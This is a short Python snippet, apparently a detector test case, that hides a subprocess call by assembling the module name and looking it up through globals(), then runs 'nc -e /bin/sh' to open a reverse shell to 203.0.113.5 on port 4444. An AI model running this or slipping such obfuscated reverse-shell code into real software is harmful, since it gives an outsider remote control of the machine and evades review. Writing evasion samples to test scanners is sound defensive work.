# tricky: a name looked up in globals
import subprocess
fn = "subpro" + "cess"
globals()[fn].Popen("nc -e /bin/sh 203.0.113.5 4444", shell=True)
